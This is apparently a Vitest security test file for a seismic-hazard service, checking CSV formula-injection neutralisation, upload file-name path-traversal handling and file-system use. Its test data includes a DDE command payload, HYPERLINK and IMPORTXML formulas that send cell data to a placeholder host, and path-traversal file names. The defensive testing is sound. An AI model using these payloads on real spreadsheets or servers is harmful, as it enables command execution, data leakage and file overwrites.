import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Study } from '../../../api/engine/model.ts';
import type { StudyResult } from '../../../api/engine/results.ts';
import { runCsv } from '../../../api/results/run-csv.ts';
import { startRun, waitForStatus } from '../helpers/runs.ts';
import {
  jsonInit,
  REPO_ROOT,
  type ServiceProcess,
  startService,
  tempDir,
} from '../helpers/service-process.ts';
import { COMMUNITIES_CSV, COMMUNITY, smallStudy } from '../helpers/small-study.ts';

/**
 * Injection, the parts outside the browser: CSV exports neutralise cells that start
 * with = + - @, tab or carriage return (OWASP, "CSV Injection": prefix such cells with a single
 * quote; from memory), and uploaded file names never reach a file path. Markup rendered inert
 * in the pages is checked in the browser (test/web/injection.browser.test.ts).
 */

/** Names a spreadsheet would run as formulas, or as commands through DDE (OWASP's examples, from memory). */
export const FORMULA_NAMES = [
  "=SUM(1+1)*cmd|' /C calc'!A0",
  '+1+2',
  '-2+3',
  '@SUM(1,2)',
  '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://example.invalid/?", A1), "//a")\nSecond line',
] as const;

/** A cell a spreadsheet may evaluate: it starts with = + - @, tab or CR and is not a plain number. */
const isLive = (cell: string): boolean =>
  /^[=+\-@\t\r]/.test(cell) && !Number.isFinite(Number(cell));

describe('CSV export (runCsv)', () => {
  it('prefixes every text cell that starts with = + - @ tab or CR, also past a line break, and keeps numbers', () => {
    const names = [...FORMULA_NAMES, '\tTabbed', '\rReturned', 'Plain Cove'];
    const community = (name: string, i: number) => ({
      id: `c${i}`,
      name,
      lon: -140.2,
      lat: -47.4,
      vs30: 400,
      vs30Basis: 'measured' as const,
      coastal: false,
    });
    // Hand-built: validation trims a leading tab or CR from names, the export must not rely on it.
    const study = {
      ...(smallStudy() as object),
      communities: names.map(community),
      settings: { measures: ['PGA'], returnPeriodsYears: [475], horizonsYears: [50] },
    } as unknown as Study;
    const result = {
      studyName: 'x',
      warnings: [],
      communities: names.map((name, i) => ({
        communityId: `c${i}`,
        name,
        band: { id: '-band', label: '=label', mmi475: null },
        atReturnPeriod: { '475': { PGA: -0.5 } },
        intensity: { atReturnPeriod: {}, chanceOfReaching: {} },
        nearestFaults: [{ sourceId: 'f', name: '@fault', distanceKm: 3, bearingDeg: 0 }],
        warnings: ['-a warning', '=another'],
      })),
    } as unknown as StudyResult;
    const rows = Papa.parse<string[]>(runCsv(study, result), { skipEmptyLines: true }).data;
    const header = rows[0] as string[];
    const live = rows.slice(1).flatMap((row) => row.filter(isLive));
    console.log(
      `CSV export: ${rows.length - 1} rows x ${header.length} columns; live formula cells: ${live.length}`,
    );
    expect(live).toEqual([]);
    const nameColumn = header.indexOf('name');
    expect(rows.slice(1).map((r) => r[nameColumn])).toEqual([
      ...FORMULA_NAMES.map((n) => `'${n}`),
      "'\tTabbed",
      "'\rReturned",
      'Plain Cove',
    ]);
    // Numbers are data, not formulas: a negative level stays a number.
    expect(rows[1]?.[header.indexOf('PGA_475yr_g')]).toBe('-0.5');
    expect(rows[1]?.[header.indexOf('lon')]).toBe('-140.2');
  });
});

describe('through the service', () => {
  const dir = tempDir('tremora-injection-');
  let service: ServiceProcess;
  beforeAll(async () => {
    service = await startService({
      databasePath: `${dir.path}/injection.db`,
      env: { TREMORA_WORKERS: '1' },
    });
  });
  afterAll(async () => {
    await service?.stop();
    dir.remove();
  });

  it('a run of communities named as formulas exports a CSV with no live formula cell', async () => {
    const study = smallStudy('=CMD("boom")');
    study.communities = FORMULA_NAMES.map((name, i) => ({
      ...COMMUNITY,
      id: `village-${i}`,
      name,
      lat: COMMUNITY.lat + i * 0.01,
    }));
    const created = await service.fetch('/api/studies', jsonInit('POST', study));
    expect(created.status, await created.clone().text()).toBe(201);
    const { id } = (await created.json()) as { id: string };
    const run = await waitForStatus(service, (await startRun(service, id)).id);
    expect(run.status, run.error ?? '').toBe('done');
    const csv = await service.fetch(`/api/runs/${run.id}/results.csv`);
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    const rows = Papa.parse<string[]>(await csv.text(), { skipEmptyLines: true }).data;
    const live = rows.flatMap((row) => row.filter(isLive));
    const names = rows.slice(1).map((r) => r[(rows[0] as string[]).indexOf('name')]);
    console.log(
      `service CSV: ${rows.length - 1} communities named as formulas; live formula cells: ${live.length}`,
    );
    expect(live).toEqual([]);
    expect(names).toEqual(FORMULA_NAMES.map((n) => `'${n}`));
  });

  it('an uploaded file name never becomes a path: nothing is written where it points', async () => {
    const created = await service.fetch('/api/studies', jsonInit('POST', smallStudy('Uploads')));
    const { id } = (await created.json()) as { id: string };
    const marker = `tremora-upload-${process.pid}-${Date.now()}`;
    const targets = [
      join(dir.path, `${marker}.csv`),
      join(REPO_ROOT, `${marker}.csv`),
      `/tmp/${marker}.geojson`,
    ];
    const names = [
      `../../../../..${targets[0]}`,
      `../${marker}.csv`,
      targets[2] as string,
      `C:\\Windows\\${marker}.csv`,
      `${marker}\u0000.csv`,
      `%2e%2e%2f${marker}.csv`,
    ];
    const before = readdirSync(dir.path).sort();
    const statuses: number[] = [];
    for (const [i, name] of names.entries()) {
      const form = new FormData();
      const geojson = i % 2 === 1;
      const content = geojson ? JSON.stringify(smallStudy().sources) : COMMUNITIES_CSV;
      form.append(
        'file',
        new Blob([content], { type: geojson ? 'application/geo+json' : 'text/csv' }),
        name,
      );
      const response = await service.fetch(
        `/studies/${id}/edit/${geojson ? 'sources-geojson' : 'communities-csv'}`,
        { method: 'POST', body: form, redirect: 'manual' },
      );
      statuses.push(response.status);
      expect(response.status, `upload named ${JSON.stringify(name)}`).toBeLessThan(500);
    }
    console.log(
      `uploads with hostile file names: ${names.length}, answered ${statuses.join(', ')}`,
    );
    for (const target of targets) expect(existsSync(target), target).toBe(false);
    // Only the database's own files are in its folder.
    expect(
      readdirSync(dir.path)
        .sort()
        .filter((f) => !before.includes(f) && !/^injection\.db(-wal|-shm)?$/.test(f)),
    ).toEqual([]);
    // The import reached the study (by its content), not a file.
    const saved = (await (await service.fetch(`/api/studies/${id}`)).json()) as {
      communitiesCsv: string | null;
    };
    // Stored as CSV with Tremora's header, ending in a newline.
    expect(saved.communitiesCsv?.trimEnd()).toBe(COMMUNITIES_CSV.trimEnd());
  });
});

/**
 * The code behind the service (API, store, results, workers, study format, pages) touches the
 * file system only in these files, each with a fixed path from the code or the service's
 * settings, never from a request; and none of them writes except to make the database's folder.
 */
const FILE_SYSTEM_USERS: Readonly<Record<string, string>> = {
  'api/store/store.ts': 'creates the folder of TREMORA_DB',
  'api/store/migrate.ts': 'reads the shipped migrations',
  'api/operations/demo-seed.ts': 'reads data-demo/demo.study.json',
  'api/results/tool-version.ts': 'reads package.json',
  'api/study/read-study-file.ts': 'the CLI reads the study file it is given',
  'web/routes/static-files.ts': 'reads web/static/ by fixed names at start',
  'web/data/study-catalog.ts': 'reads the demo catalog by a fixed name',
  'api/operations/terrain-grids.ts':
    "stats the study's terrain grid, a bare file name in TREMORA_TERRAIN_DIR",
  'web/text/text-bundles.ts': 'reads the text bundles of web/text/bundles/ and the imported ones',
  'web/text/imported-bundles.ts':
    'writes an imported translation to <database folder>/text/<code>.json, the code checked to be a language code (letters, digits and hyphens only)',
};

/** The only files that may write, each with where it writes. */
const FILE_WRITERS: ReadonlySet<string> = new Set(['web/text/imported-bundles.ts']);

describe('file system use', () => {
  it('only the listed files use node:fs, and only the listed writer writes a file', () => {
    const files: string[] = [];
    const walk = (path: string): void => {
      for (const entry of readdirSync(path, { withFileTypes: true })) {
        const full = join(path, entry.name);
        if (entry.isDirectory()) walk(full);
        else if (/\.tsx?$/.test(entry.name)) files.push(relative(REPO_ROOT, full));
      }
    };
    for (const dirName of [
      'api/service',
      'api/operations',
      'api/store',
      'api/results',
      'api/workers',
      'api/study',
      'web',
    ])
      walk(join(REPO_ROOT, dirName));
    const users = files.filter((f) =>
      /from ['"](node:)?fs(\/promises)?['"]/.test(readFileSync(join(REPO_ROOT, f), 'utf8')),
    );
    console.log(
      `file system use: ${users.length} of ${files.length} service and page files (${users.join(', ')})`,
    );
    expect(users.filter((f) => !(f in FILE_SYSTEM_USERS))).toEqual([]);
    for (const f of users) {
      const writes =
        readFileSync(join(REPO_ROOT, f), 'utf8').match(
          /\b(writeFile|appendFile|createWriteStream|rename|unlink|rm|copyFile|symlink|open)(Sync)?\(/g,
        ) ?? [];
      if (!FILE_WRITERS.has(f)) expect(writes, `${f} writes`).toEqual([]);
    }
  });
});
